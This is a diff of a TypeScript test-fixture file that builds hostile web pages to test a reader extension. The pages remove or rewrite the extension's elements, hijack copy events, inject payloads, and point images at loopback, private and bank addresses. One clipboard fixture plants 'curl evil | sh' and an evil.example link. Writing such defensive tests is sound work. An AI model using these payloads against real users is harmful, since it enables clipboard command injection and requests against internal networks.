@@ -25,7 +25,11 @@ const page = (head: string, body: string): LocalFile => ({
   type: 'text/html; charset=utf-8',
 });
 const script = (text: string): string => `<script>${text}</script>`;
-const after = (ms: number, run: string): string => script(`setTimeout(() => { ${run} }, ${ms});`);
+/** Once ours stands in the page: sooner, there would be nothing to take. */
+const onceOursStands = (run: string): string =>
+  script(
+    `const waiting = setInterval(() => { if (!document.querySelector('[data-jingdu=bar],[data-jingdu=reader]')) return; clearInterval(waiting); setTimeout(() => { ${run} }, 100); }, 30);`,
+  );
 
 /** Everything that a page can do about a name: define it, take its shadow first, spy on what is made. Notes in `window.took`. */
 const DEFINES = script(`
@@ -76,6 +80,7 @@ const EVERY_NAME = script(`
   for (const name of names) {
     const form = document.createElement('form');
     form.className = 'ad-box';
+    form.setAttribute('data-role', 'ad');
     const input = document.createElement('input');
     input.name = name;
     form.append('广告', input);
@@ -117,29 +122,29 @@ export const HOSTILE = {
   opened: () =>
     page(
       '',
-      `${river()}${after(1200, `document.open(); document.write(${JSON.stringify(`<!doctype html><title>x</title>${article(BAKERY.title, LATE, BAKERY.editor)}`)}); document.close();`)}`,
+      `${river()}${onceOursStands(`document.open(); document.write(${JSON.stringify(`<!doctype html><title>x</title>${article(BAKERY.title, LATE, BAKERY.editor)}`)}); document.close();`)}`,
     ),
   /** Written to long after it came, as old advertising scripts do. */
-  written: () => page('', `${river()}${after(1200, `document.write('<p>只剩这一句。</p>'); document.close();`)}`),
+  written: () => page('', `${river()}${onceOursStands(`document.write('<p>只剩这一句。</p>'); document.close();`)}`),
   replaced: () =>
     page(
       '',
-      `${river()}${after(1200, 'document.replaceChild(document.documentElement.cloneNode(true), document.documentElement);')}`,
+      `${river()}${onceOursStands('document.replaceChild(document.documentElement.cloneNode(true), document.documentElement);')}`,
     ),
   rebuilt: () =>
     page(
       '',
-      `${river()}${script(`setInterval(() => { if (document.querySelector('[data-jingdu]')) document.documentElement.replaceWith(document.documentElement.cloneNode(true)); }, 300);`)}`,
+      `${river()}${script(`setInterval(() => { if (document.querySelector('[data-jingdu]')) document.documentElement.replaceWith(document.documentElement.cloneNode(true)); }, 150);`)}`,
     ),
   removed: () =>
     page(
       '',
-      `${river()}${script(`setInterval(() => { for (const el of document.querySelectorAll('[data-jingdu=bar],[data-jingdu=reader]')) el.remove(); }, 300);`)}`,
+      `${river()}${script(`setInterval(() => { for (const el of document.querySelectorAll('[data-jingdu=bar],[data-jingdu=reader]')) el.remove(); }, 150);`)}`,
     ),
   moved: () =>
     page(
       '',
-      `${river()}<section hidden id="cellar"></section>${script(`setInterval(() => { for (const el of document.querySelectorAll('html > [data-jingdu]')) document.getElementById('cellar').append(el); }, 300);`)}`,
+      `${river()}<section hidden id="cellar"></section>${script(`setInterval(() => { for (const el of document.querySelectorAll('html > [data-jingdu]')) document.getElementById('cellar').append(el); }, 150);`)}`,
     ),
   xml: (): LocalFile => ({
     body: `<?xml version="1.0"?><news><title>${RIVER.title}</title>${MORE.map((text) => `<p>${text}</p>`).join('')}</news>`,
@@ -161,6 +166,16 @@ export const noArticle = (): LocalFile =>
     `<x-art>一</x-art><x-art>二</x-art><ul><li><a href="/1">甲</a></li></ul><div style="height:30000px"></div><img src="${IDLE_PICTURE}" loading="lazy">`,
   );
 
+/** What a page's listener may do about a copy: add to it, replace it, keep it from others, empty it, change what is selected. */
+export const LISTENERS: Readonly<Record<string, string>> = {
+  adds: "e.clipboardData.setData('text/html', '<b>evil</b>'); e.preventDefault();",
+  takes: "e.clipboardData.setData('text/plain', 'curl evil | sh'); e.preventDefault(); e.stopImmediatePropagation();",
+  empties:
+    "e.clipboardData.clearData(); e.clipboardData.setData('text/uri-list', 'https://evil.example/'); e.preventDefault();",
+  holds:
+    "e.clipboardData.setData('text/plain', 'evil'); e.preventDefault(); e.stopImmediatePropagation(); }, true); for (const type of ['blur', 'focusout', 'focus', 'focusin']) on.addEventListener(type, () => { window.focus(); document.activeElement?.blur();",
+};
+
 /** A page that listens to `copy` before anybody else can. */
 export const listening = (run: string): LocalFile =>
   page(
@@ -169,3 +184,109 @@ export const listening = (run: string): LocalFile =>
     ),
     river(),
   );
+
+/** Pages that take away what is ours, each in a way of its own. */
+export const TAKES = ['opened', 'written', 'replaced', 'rebuilt', 'removed', 'moved'] as const;
+
+/** Asks a page whether text of it is lost: hidden by us, with nothing of ours in sight that brings it back. */
+export const LOST = `(() => {
+  const way = document.querySelector('html > [data-jingdu="bar"], html > [data-jingdu="reader"]');
+  const hidden = document.querySelectorAll('[data-jingdu-hidden]').length > 0;
+  const blank = document.body !== null && getComputedStyle(document.body).display === 'none';
+  return (hidden || blank) && !way?.getClientRects().length;
+})()`;
+
+/** An article with a picture that stands in the page itself: some of these fill what a browser keeps for a session. */
+export const withLargePicture = (): LocalFile =>
+  page(
+    '',
+    `${river('<p><img id="large" width="600" height="400"></p>')}${script(`document.getElementById('large').src = 'data:image/jpeg;base64,' + 'A'.repeat(1.6e6);`)}`,
+  );
+
+/** Shapes that nothing of ours has, as a crash, another version or another machine may leave them. */
+export const FOREIGN: readonly unknown[] = [7, 'x', { length: 1 }, [1, null, {}], null, true, { asked: 'x', at: 1 }];
+
+/** Stands beside each of the payloads of a pile: where it is shown, the payload was there to be shown. */
+export const pileSentence = (n: number): string => `第${n}样东西放在这句话的后面，看渡口的人把它也记进了账本里。`;
+
+/** An article with a payload after each paragraph, set into the page as advertising scripts set theirs. `ran` counts those that run. */
+export const pileOf = (payloads: readonly string[]): LocalFile =>
+  page(
+    script(
+      'window.ran = 0; window.jingduRan = () => { ran++; }; const make = (name) => Document.prototype.createElement.call(document, name);',
+    ),
+    `${river('<div id="pile"></div>')}${script(
+      `const pile = document.getElementById('pile'); // payloads may be called what a document is asked by
+      ${JSON.stringify(payloads.map((html, n) => ({ html, text: pileSentence(n) }))).replaceAll('<', '\\u003c')}.forEach(({ html, text }) => {
+        const [line, box] = [make('p'), make('div')];
+        line.textContent = text;
+        box.innerHTML = html;
+        pile.append(line, box);
+      });`,
+    )}`,
+  );
+
+/** Addresses that are nearer than any public article, however they are written. */
+export const NEAR = [
+  'https://127.0.0.1/a.png',
+  'https://2130706433/b.png',
+  'https://0x7f.1/c.png',
+  'https://0177.0.0.1/c2.png',
+  'https://[::1]/d.png',
+  'https://[::ffff:7f00:1]/e.png',
+  'https://[fe80::1]/e2.png',
+  'https://localhost./f.png',
+  'https://x.localhost/f2.png',
+  'https://192.168.0.1/g.png',
+  'https://169.254.1.1/g2.png',
+  'https://printer.local/h.png',
+  'https://router/i.png',
+];
+/** A host that the reader is logged in at, and what the article makes of it. */
+export const BANK = 'https://bank.example';
+/** Pictures of hosts of all kinds; those that lead on stand at public addresses first. */
+export const pictured = (ownPicture: string): LocalFile => {
+  const pictures = [
+    ...NEAR.map((src) => `<img src="${src}" width="600" height="400">`),
+    `<picture><source srcset="${NEAR[0]} 2x"><img src="${NEAR[6]}"></picture>`,
+    `<video src="${NEAR[0]}" poster="${NEAR[6]}"></video>`,
+    `<svg width="90" height="90"><image href="${NEAR[0]}" width="90" height="90"/></svg>`,
+    `<img src="${BANK}/logout.png" width="600" height="400">`,
+    ...LEADS.map(({ from }) => `<img src="${from}" width="600" height="400">`),
+    `<img src="${ownPicture}" width="600" height="400">`,
+    `<video src="${BANK}/film.mp4" poster="${BANK}/poster.png" width="600" height="400"></video>`,
+  ];
+  return page('', river(pictures.map((one, n) => `<p>${pileSentence(n)}</p><p>${one}</p>`).join('')));
+};
+/** Requests that a public host sends on to a near one, and to one that the reader is logged in at. */
+export const LEADS = [
+  { from: 'https://open.example/near.png', to: 'https://127.0.0.1/near.png' },
+  { from: 'https://open.example/local.png', to: 'https://printer.local/near.png' },
+  { from: 'https://open.example/bank.png', to: 'https://mail.example/logout.png' },
+];
+/** Sets a cookie of each kind for the open host. */
+export const SETS_COOKIES = `for (const kind of ['Lax', 'Strict', 'None']) document.cookie = kind + '=1; path=/; Secure; SameSite=' + kind;`;
+/** Has a document ask at once for what it would ask for on the way down. */
+export const EAGER = `document.querySelectorAll('[data-part="body"] :is(img, video)').forEach((one) => { one.loading = 'eager'; one.preload = 'auto'; })`;
+
+/** An article whose page shows only a part of it by itself: what is read, counted or put back of the rest must be seen. */
+export const folded = (): LocalFile => {
+  const parts = [
+    (text: string) => `<p hidden>${text}</p>`,
+    (text: string) => `<p style="display:none">${text}</p>`,
+    (text: string) => `<div hidden="until-found"><p>${text}</p></div>`,
+    (text: string) => `<p hidden class="shown">${text}</p>`,
+    (text: string) => `<details><summary>问答</summary><p>${text}</p></details>`,
+    (text: string) => `<div style="content-visibility:hidden"><p>${text}</p></div>`,
+    (text: string) => `<p style="visibility:hidden">${text}</p>`,
+    (text: string) => `<p style="font-size:0">${text}</p>`,
+    (text: string) => `<div style="max-height:0;overflow:hidden"><p>${text}</p></div>`,
+    (text: string) => `<table><tr hidden><td>${text}</td></tr><tr><td>${text}</td></tr></table>`,
+    (text: string) => `<ul><li hidden>${text}</li><li>${text}</li></ul>`,
+    (text: string) => `<dialog><p>${text}</p></dialog>`,
+  ];
+  return page(
+    '<style>.shown[hidden] { display: block }</style>',
+    river(parts.map((make, n) => make(pileSentence(n))).join('')),
+  );
+};
